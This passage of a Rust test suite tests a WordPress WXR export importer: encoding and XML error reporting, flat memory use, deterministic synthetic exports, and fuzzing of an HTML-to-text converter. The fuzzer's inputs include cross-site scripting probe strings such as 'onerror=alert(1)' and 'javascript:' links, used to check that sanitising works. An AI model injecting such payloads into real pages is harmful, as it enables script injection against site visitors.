    xml.splice(at..at + 2, [0xE9]);
    let e = import_error(&xml);
    // Line 7 is `<title><![CDATA[Café]]></title>`; the byte is the 20th character.
    assert_eq!((e.line, e.column), (7, 20));
    assert!(
        e.message.contains("not valid UTF-8") && e.message.contains("0xE9"),
        "{}",
        e.message
    );
    assert_eq!(e.source_line, "<title><![CDATA[Caf\u{fffd}]]></title>");

    // UTF-16 (with its byte order mark).
    let utf16: Vec<u8> = [0xFF, 0xFE]
        .into_iter()
        .chain(export("").encode_utf16().flat_map(u16::to_le_bytes))
        .collect();
    let e = import_error(&utf16);
    assert!(e.message.contains("UTF-16"), "{}", e.message);

    // A UTF-8 byte order mark is fine, and does not shift columns.
    let bom = format!("\u{feff}{}", export(""));
    assert!(import(bom.as_bytes()).is_ok());
}

#[test]
fn malformed_xml_is_reported_where_it_is() {
    let xml = export("<item>\n<title>One</titel>\n</item>\n");
    let e = import_error(xml.as_bytes());
    assert_eq!((e.line, e.column), (7, 11));
    assert_eq!(e.source_line, "<title>One</titel>");
    assert!(
        e.message.contains("</titel>") && e.message.contains("<title>"),
        "{}",
        e.message
    );

    let xml = export("<item>\n<title>Tom & Jerry</title>\n</item>\n");
    let e = import_error(xml.as_bytes());
    assert_eq!(e.line, 7);
    assert!(e.message.contains("&amp;"), "{}", e.message);

    let xml = export("<item>\n<title a=\"1\" a=\"2\">x</title>\n</item>\n");
    assert!(
        import(xml.as_bytes()).is_ok(),
        "attributes of ignored fields are not read"
    );
    let xml = export("<item>\n<category domain=\"post_tag\" domain=\"x\">T</category>\n</item>\n");
    let e = import_error(xml.as_bytes());
    assert_eq!(e.line, 7);
    assert!(e.message.contains("attribute"), "{}", e.message);
}

#[test]
fn files_that_are_not_wordpress_exports() {
    let e = import_error(b"");
    assert!(e.message.contains("is empty"), "{}", e.message);
    let e = import_error(b"{\"stories\": []}");
    assert!(
        e.message.contains("not a WordPress export"),
        "{}",
        e.message
    );
    let e = import_error(b"<html><body>Hi</body></html>");
    assert!(
        e.message.contains("root element is <html>"),
        "{}",
        e.message
    );
    let rss = "<?xml version=\"1.0\"?>\n<rss version=\"2.0\"><channel><title>Feed</title></channel></rss>";
    let e = import_error(rss.as_bytes());
    assert_eq!((e.line, e.column), (2, 1));
    assert!(
        e.message.contains("declares no WordPress export namespace"),
        "{}",
        e.message
    );
    let e = import_error(format!("{}<rss/>", export("")).as_bytes());
    assert!(e.message.contains("more after the end"), "{}", e.message);
}

/// Counts what passes through a reader.
struct Counting<R> {
    inner: R,
    bytes: Arc<AtomicU64>,
}

impl<R: Read> Read for Counting<R> {
    fn read(&mut self, out: &mut [u8]) -> std::io::Result<usize> {
        let n = self.inner.read(out)?;
        self.bytes.fetch_add(n as u64, Ordering::Relaxed);
        Ok(n)
    }
}

const MEMORY_CHILD: &str = "BULLETIN_WXR_MEMORY_CHILD";

/// Imports a generated export of `posts` posts in this process (nothing on disk)
/// and prints the bytes read and the peak resident memory.
fn memory_child(posts: u64) {
    let bytes = Arc::new(AtomicU64::new(0));
    let input = BufReader::new(Counting {
        inner: wxr::synth::Synth::new(posts, 7),
        bytes: bytes.clone(),
    });
    let mut report = Report::default();
    for item in wxr::read("generated.xml", input, &Settings::default()) {
        match item {
            Ok(item) => report.record(&item),
            Err(e) => panic!("{}", e.display("generated.xml")),
        }
    }
    assert_eq!(report.story_count(), posts);
    let status = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
    let hwm = status
        .lines()
        .find_map(|l| l.strip_prefix("VmHWM:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse::<u64>().ok())
        .unwrap_or(0);
    println!(
        "MEMORY bytes={} hwm_kb={hwm}",
        bytes.load(Ordering::Relaxed)
    );
}

/// Runs [`memory_child`] in a fresh process (this test binary, filtered to `test`),
/// so its peak memory is its own: (bytes read, peak kB, seconds).
fn run_memory_child(test: &str, posts: u64) -> Option<(u64, u64, f64)> {
    if !std::path::Path::new("/proc/self/status").exists() {
        bulletin_test_support::skip_or_fail(
            "no /proc/self/status to read peak memory from",
            "this test reads a process's peak memory the way Linux reports it: run it on Linux",
        );
        return None;
    }
    let started = Instant::now();
    let output = std::process::Command::new(std::env::current_exe().unwrap())
        .args([test, "--exact", "--nocapture", "--test-threads=1"])
        .env(MEMORY_CHILD, posts.to_string())
        .output()
        .unwrap();
    let seconds = started.elapsed().as_secs_f64();
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(
        output.status.success(),
        "child failed:\n{stdout}\n{}",
        String::from_utf8_lossy(&output.stderr)
    );
    // The harness prints the test's name on the same line.
    let line = stdout
        .lines()
        .find_map(|l| l.split_once("MEMORY ").map(|(_, rest)| rest))
        .unwrap_or_else(|| panic!("no MEMORY line in:\n{stdout}"));
    let field = |name: &str| {
        line.split_whitespace()
            .find_map(|f| f.strip_prefix(name))
            .and_then(|v| v.parse::<u64>().ok())
            .unwrap()
    };
    Some((field("bytes="), field("hwm_kb="), seconds))
}

/// Peak memory stays flat as the export grows: one of 75 MB (20,000 posts, made
/// as it is read: nothing on disk) is imported in the same peak memory as one of
/// 4 MB, within 8 MiB, since one item, one XML event and a 2 MiB window of the file
/// are ever held. Each import runs in a child process of its own so that its peak
/// is its own.
#[test]
fn memory_stays_flat_as_the_export_grows() {
    if let Ok(posts) = std::env::var(MEMORY_CHILD) {
        memory_child(posts.parse().unwrap());
        return;
    }
    let test = "wxr::memory_stays_flat_as_the_export_grows";
    let Some((small_bytes, small_kb, _)) = run_memory_child(test, 1_000) else {
        return;
    };
    let Some((big_bytes, big_kb, seconds)) = run_memory_child(test, 20_000) else {
        return;
    };
    println!(
        "{small_bytes} bytes: peak {small_kb} kB; {big_bytes} bytes: peak {big_kb} kB ({seconds:.1}s)"
    );
    assert!(small_bytes < 5_000_000, "{small_bytes}");
    assert!(big_bytes > 64_000_000, "{big_bytes}");
    assert!(
        big_kb < small_kb + 8 * 1024,
        "peak {big_kb} kB for {big_bytes} bytes vs {small_kb} kB for {small_bytes}"
    );
}

/// FNV-1a, 64 bits: a fingerprint of generated bytes without a hashing crate.
fn fingerprint(bytes: &[u8]) -> u64 {
    bytes.iter().fold(0xcbf2_9ce4_8422_2325, |hash, &b| {
        (hash ^ u64::from(b)).wrapping_mul(0x0100_0000_01b3)
    })
}

/// The generated export for a seed is pinned (length and fingerprint): the
/// benchmark and the memory bound rely on the same seed giving the same file, so a
/// change to the generator that alters it fails here. Update the figures only for
/// a deliberate change of the export.
#[test]
fn the_same_seed_gives_the_same_export_as_before() {
    let made: Vec<(usize, u64)> = [(1_000, 1), (500, 9)]
        .into_iter()
        .map(|(posts, seed)| {
            let mut bytes = Vec::new();
            wxr::synth::generate(posts, seed, &mut bytes).unwrap();
            (bytes.len(), fingerprint(&bytes))
        })
        .collect();
    assert_eq!(
        made,
        [
            (3_789_942, 14_452_343_824_450_159_782),
            (1_908_742, 3_160_749_745_492_152_590)
        ]
    );
}

#[test]
fn generated_exports_read_back_with_their_counts() {
    let mut bytes = Vec::new();
    let counts = wxr::synth::generate(500, 9, &mut bytes).unwrap();
    let mut again = Vec::new();
    wxr::synth::generate(500, 9, &mut again).unwrap();
    assert_eq!(bytes, again, "deterministic");
    assert_eq!(counts.bytes, bytes.len() as u64);
    let items = import(&bytes).unwrap_or_else(|e| panic!("{}", e.display("gen")));
    let mut report = Report::default();
    for item in &items {
        report.record(item);
    }
    assert_eq!(report.stories.get("publish"), Some(&counts.published));
    assert_eq!(report.stories.get("draft"), Some(&counts.drafts));
    assert_eq!(report.stories.get("future"), Some(&counts.scheduled));
    assert_eq!(report.stories.get("private"), Some(&counts.private));
    assert_eq!(report.skipped.get("page").map(|s| s.0), Some(counts.pages));
    assert_eq!(
        report.skipped.get("attachment").map(|s| s.0),
        Some(counts.attachments)
    );
    assert_eq!(
        report.skipped.get("nav_menu_item").map(|s| s.0),
        Some(counts.menu_items)
    );
    assert_eq!(
        report.skipped.get("comment").map(|s| s.0),
        Some(counts.comments)
    );
    let all = stories(&items);
    let with_issue = all.iter().filter(|s| s.story.issue.is_some()).count() as u64;
    assert_eq!(
        with_issue, counts.bulletin_bodies,
        "every bulletin-text body is read as one"
    );
    assert!(all.iter().any(|s| s.story.dateline.places == ["Baku"]));
    // Only the images of captioned posts warn.
    assert!(
        warnings(&items)
            .iter()
            .all(|w| w.message.contains("left out 1 image"))
    );
}

fn html_piece() -> impl Strategy<Value = String> {
    prop_oneof![
        Just("<p>".to_owned()),
        Just("</p>".to_owned()),
        Just("<div class=\"x\">".to_owned()),
        Just("</div>".to_owned()),
        Just("<b>".to_owned()),
        Just("</b>".to_owned()),
        Just("<a href=\"javascript:alert(1)\" title='x>y'>".to_owned()),
        Just("<img src=x onerror=alert(1)>".to_owned()),
        Just("<script>SCRIPTBODY</script>".to_owned()),
        Just("<script>".to_owned()),
        Just("<style>STYLEBODY".to_owned()),
        Just("<iframe>".to_owned()),
        Just("<!-- a <b>comment</b> -->".to_owned()),
        // Unclosed: the rest is a comment.
        Just("<!--".to_owned()),
        Just("<br>".to_owned()),
        Just("<pre>".to_owned()),
        Just("</pre>".to_owned()),
        Just("<table><tr><td>".to_owned()),
        Just("[caption id=\"1\"]".to_owned()),
        Just("[/caption]".to_owned()),
        Just("[gallery]".to_owned()),
        Just("[embed]".to_owned()),
        Just("\n\n".to_owned()),
        Just("&amp;".to_owned()),
        Just("&nbsp;".to_owned()),
        "[a-zA-Z0-9 .,\u{e9}\u{a0}\n\t]{0,12}",
    ]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    /// Built only from tags and plain text: no '<' or '>' can come out, nor any
    /// script or style text, and every paragraph is one trimmed line.
    #[test]
    fn paragraphs_hold_no_markup(pieces in proptest::collection::vec(html_piece(), 0..40)) {
        let input = pieces.concat();
        let (paragraphs, _) = html::paragraphs(&input);
        for p in &paragraphs {
            prop_assert!(!p.contains('<') && !p.contains('>'), "{p:?} from {input:?}");
            prop_assert!(!p.contains("SCRIPTBODY") && !p.contains("STYLEBODY"), "{p:?} from {input:?}");
            prop_assert!(!p.is_empty() && p.trim() == p && !p.contains('\n'), "{p:?}");
        }
    }

    /// Anything at all: no panic, and only clean lines.
    #[test]
    fn paragraphs_of_anything(input in any::<String>()) {
        let (paragraphs, _) = html::paragraphs(&input);
        for p in &paragraphs {
            prop_assert!(!p.is_empty() && !p.chars().any(|c| c.is_control()), "{p:?}");
        }
        let title = html::text(&input);
        prop_assert!(!title.contains('\n'));
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    /// A damaged export (bytes changed, cut short) gives items and perhaps one
    /// final error; never a panic, never an error in the middle.
    #[test]
    fn damaged_exports_never_panic(
        flips in proptest::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 0..6),
        cut in any::<prop::sample::Index>(),
    ) {
        let mut bytes = Vec::new();
        wxr::synth::generate(6, 2, &mut bytes).unwrap();
        for (at, byte) in flips {
            let i = at.index(bytes.len());
            bytes[i] = byte;
        }
        let end = cut.index(bytes.len() + 1);
        let items: Vec<_> = wxr::read("d", &bytes[..end], &Settings::default()).collect();
        let errors = items.iter().filter(|i| i.is_err()).count();
        prop_assert!(errors <= 1);
        if errors == 1 {
            prop_assert!(items.last().is_some_and(|i| i.is_err()));
        }
    }
}
